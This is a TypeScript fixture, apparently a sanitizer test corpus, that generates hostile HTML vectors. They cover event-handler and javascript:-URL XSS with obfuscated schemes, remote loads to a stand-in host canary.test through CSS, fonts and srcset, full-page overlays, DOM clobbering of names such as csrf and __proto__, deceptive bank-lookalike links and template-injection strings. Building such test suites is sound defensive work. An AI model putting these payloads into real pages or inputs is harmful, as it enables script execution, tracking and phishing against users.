// Hostile HTML: the classics, and what a small grammar makes of them. All of it tries to set
// window.__canary, to open a dialog, or to reach http://canary.test.
import { nested } from "./hostile-nested";

export interface Vector {
  attack: string; // of the attack list
  html: string;
}
const run = "window.top.__canary=window.__canary=1;alert(1)";
const away = "http://canary.test/";

const tags = ["img src=x", "svg", "body", "video", "audio src=x", "details open", "marquee", "input autofocus", "select autofocus", "iframe src=x", "object data=x", "math", "style", "form", "a href=x tabindex=0 autofocus", "p"];
const events = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter", "onanimationstart", "oncontentvisibilityautostatechange", "onbeforematch"];
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:", "&#0000106;avascript:", "&#x6A;avascript&colon;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="];
const targets = [(url: string) => `<a href="${url}${run}">click</a>`, (url: string) => `<form action="${url}${run}"><button>go</button></form>`, (url: string) => `<iframe src="${url}${run}"></iframe>`, (url: string) => `<svg><a xlink:href="${url}${run}"><text y=20>x</text></a></svg>`];

const scripts = [
  ...tags.flatMap((tag, at) => events.filter((_, n) => (at + n) % 2 === 0).map((event) => `<${tag} ${event}="${run}">x</${tag.split(" ")[0]}>`)),
  ...schemes.flatMap((scheme) => targets.map((target) => target(scheme))),
  `<script>${run}</script>`, `<script src="${away}a.js"></script>`, `<svg><script>${run}</script></svg>`, `<math><mtext><script>${run}</script></mtext></math>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="javascript:${run}">`, `<applet code="${run}"></applet>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<base href="javascript:${run}//">`, `<link rel="stylesheet" href="javascript:${run}">`,
  `<form><button formaction="javascript:${run}">go</button></form>`, `<isindex action="javascript:${run}" type=image>`, `<![CDATA[<script>${run}</script>]]>`, `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<plaintext><script>${run}</script>`, `<portal src="javascript:${run}"></portal>`, `<svg><animate attributeName=href values="javascript:${run}" /></svg>`, `<svg><set attributeName="onload" to="${run}"/></svg>`,
];

const remote = [
  `<img src="${away}1.png">`, `<img srcset="${away}2.png 2x">`, `<picture><source srcset="${away}3.png"><img src="cid:none"></picture>`, `<video poster="${away}4.png"></video>`, `<table background="${away}5.png"><tr><td>x</table>`,
  `<p style="background:url(${away}6.png)">x</p>`, `<p style="background:u\\72l(${away}7.png)">x</p>`, `<style>@import "${away}8.css";</style>`, `<style>@font-face{font-family:x;src:url(${away}9.woff)}p{font-family:x}</style><p>x</p>`,
  `<link rel="preload" as="image" href="${away}10.png">`, `<link rel="dns-prefetch" href="//canary.test">`, `<link rel="preconnect" href="${away}">`, `<input type="image" src="${away}11.png">`, `<svg><image href="${away}12.png"/></svg>`, `<svg><use href="${away}13.svg#a"/></svg>`,
  `<audio src="${away}14.mp3" autoplay></audio>`, `<video><track default src="${away}15.vtt"></video>`, `<math href="${away}16">x</math>`, `<body background="${away}17.png">x`, `<p style="list-style-image:image-set('${away}18.png' 1x)">x</p>`, `<img src="//canary.test/19.png">`, `<img src="http:\\\\canary.test\\20.png">`,
  `<object data="${away}21.svg"></object>`, `<iframe src="${away}22"></iframe>`, `<p style="cursor:url(${away}23.cur),auto">x</p>`, `<p style="border-image:url('${away}24.png')">x</p>`,
];

const overlay = [
  `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in again</div>`, `<div style="position:absolute;top:-5000px;left:-5000px;width:10000px;height:10000px;background:red">x</div>`,
  `<style>:root,body,*{display:none!important}</style>`, `<style>.composer,.rail,.button{display:none!important}</style>`, `<p style="margin:-9999px">x</p>`, `<style>@keyframes a{to{opacity:0}}*{animation:a 1ms forwards}</style>`,
  `<style>@media print{*{content:url(${away}p.png)}}</style>`, `<div class="dialog shade toast" style="position:fixed;inset:0">x</div>`,
];

const named = ["config", "app", "csrf", "user", "document", "forms", "__proto__", "constructor", "then", "main", "conversation", "tickets", "getElementById"].flatMap((name) => [
  `<form id="${name}" name="${name}"><input name="${name}"></form>`, `<img id="${name}" name="${name}" src="cid:none">`,
]);

const links = [
  `<a href="https://evil.example">https://bank.example</a>`, `<a href="https://bank.example@evil.example/">https://bank.example</a>`, `<a href="https://xn--bnk-6cd.example">bank</a>`, `<a target="_blank" href="https://evil.example">x</a>`,
  `<a href="file:///etc/passwd">x</a>`, `<a href="ms-word:ofe|u|${away}">x</a>`, `<a href="search-ms:query=x">x</a>`, `<a href="sms:123">x</a>`, `<a href="tel:+3581">x</a>`, `<a href="blob:${away}x">x</a>`, `<a href="//evil.example" ping="${away}ping">x</a>`,
];

export const vectors: readonly Vector[] = [
  ...scripts.map((html) => ({ attack: "ATK-HTM-01", html })),
  ...nested(run).map((html) => ({ attack: "ATK-HTM-03", html })),
  ...remote.map((html) => ({ attack: "ATK-HTM-04", html })),
  ...overlay.map((html) => ({ attack: "ATK-HTM-05", html })),
  ...named.map((html) => ({ attack: "ATK-HTM-06", html })),
  ...links.map((html) => ({ attack: "ATK-HTM-07", html })),
];

/** For places that are "only text": names, subjects, files (ATK-HTM-02). */
export const textVectors = [`"><img src=x onerror=${run}>`, `{{constructor.constructor('${run}')()}}`, `</title><script>${run}</script>`, `\${${run}}`, `<svg onload=${run}>`];
